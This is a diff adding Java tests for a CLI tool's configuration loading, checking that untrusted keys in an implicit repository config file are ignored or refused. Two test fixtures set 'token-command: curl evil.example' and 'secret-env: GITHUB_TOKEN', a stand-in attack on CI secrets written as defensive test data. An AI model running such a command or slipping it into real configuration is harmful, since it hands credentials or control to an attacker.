@@ -39,6 +39,16 @@ class KitConfigurationTest {
         }
     }
 
+    @Command(name = "client-check")
+    static final class FakeClientCheck implements Runnable {
+        @Option(names = "--run") String run;
+        @Option(names = "--max-duration") String maxDuration;
+
+        @Override
+        public void run() {
+        }
+    }
+
     @Command(name = "serve")
     static final class FakeServe implements Runnable {
         @Option(names = "--config") Path config;
@@ -48,7 +58,7 @@ class KitConfigurationTest {
         }
     }
 
-    @Command(name = "hubble-kit", subcommands = {FakeCheck.class, FakeServe.class})
+    @Command(name = "hubble-kit", subcommands = {FakeCheck.class, FakeClientCheck.class, FakeServe.class})
     static final class Root implements Runnable {
         @Override
         public void run() {
@@ -210,6 +220,54 @@ class KitConfigurationTest {
         assertEquals("HUBBLE_SECRET", fromEnvironment.secretEnv);
         assertEquals("https://partner.example", fromEnvironment.baseUrl);
         assertEquals("./other.sh", runCheck(Map.of(), "check", "--token-command", "./other.sh").tokenCommand);
+    }
+
+    @Test
+    void anImplicitFilesCommandKeysOfAnotherCommandDoNotStopThisOneAndAreNotUsed() throws Exception {
+        // CI.md's sample file: one file for every command, committed at the root of the repository.
+        file("check:\n  base-url: https://partner.example\nclient-check:\n  run: python3 client.py\n  max-duration: 30s\n");
+        FakeCheck check = runCheck(Map.of(), "check");
+        assertEquals("https://partner.example", check.baseUrl);
+        CommandLine root = new CommandLine(new Root());
+        UsageError error = assertThrows(UsageError.class, () -> KitConfiguration.install(root, Map.of(), dir, "client-check"));
+        assertTrue(error.getMessage().contains("client-check.run runs a command"), error.getMessage());
+    }
+
+    @Test
+    void anUntrustedKeyOfAnImplicitFileGivenByAFlagOrAVariableIsNotUsedAndNotAnError() throws Exception {
+        file("check:\n  base-url: https://partner.example\n  token-command: curl evil.example\n  secret-env: GITHUB_TOKEN\n");
+        FakeCheck flags = runCheck(Map.of(), "check", "--token-command", "./ci/mint.sh", "--secret-env=HUBBLE_SECRET");
+        assertEquals("./ci/mint.sh", flags.tokenCommand);
+        assertEquals("HUBBLE_SECRET", flags.secretEnv);
+        assertEquals("https://partner.example", flags.baseUrl);
+        FakeCheck variables = runCheck(Map.of("HUBBLE_KIT_CHECK_TOKEN_COMMAND", "./ci/mint.sh",
+                "HUBBLE_KIT_CHECK_SECRET_ENV", "HUBBLE_SECRET"), "check");
+        assertEquals("./ci/mint.sh", variables.tokenCommand);
+        assertEquals("HUBBLE_SECRET", variables.secretEnv);
+        // One of the two given, the other still comes from the file: refused, naming the one left.
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check", "--token-command", "./m.sh"));
+        assertTrue(error.getMessage().contains("check.secret-env"), error.getMessage());
+        assertTrue(error.getMessage().contains("--no-config"), error.getMessage());
+    }
+
+    @Test
+    void noConfigReadsNoFileNotEvenTheImplicitOne() throws Exception {
+        file("check:\n  base-url: https://partner.example\n  token-command: curl evil.example\n");
+        FakeCheck check = runCheck(Map.of(), "check", "--no-config");
+        assertNull(check.baseUrl, "the embedded reference, not the file's partner");
+        assertNull(check.tokenCommand);
+        FakeCheck withVariable = runCheck(Map.of("HUBBLE_KIT_CHECK_TIMEOUT", "7s"), "check", "--no-config");
+        assertEquals("7s", withVariable.timeout, "variables still apply");
+        UsageError both = assertThrows(UsageError.class,
+                () -> runCheck(Map.of(), "check", "--no-config", "--config", KitConfiguration.FILE_NAME));
+        assertTrue(both.getMessage().contains("not both"), both.getMessage());
+    }
+
+    @Test
+    void aConfigThatIsADirectoryIsNamedAsOne() throws Exception {
+        Files.createDirectory(dir.resolve("conf"));
+        UsageError error = assertThrows(UsageError.class, () -> runCheck(Map.of(), "check", "--config", "conf"));
+        assertTrue(error.getMessage().contains("conf is a directory"), error.getMessage());
     }
 
     @Test
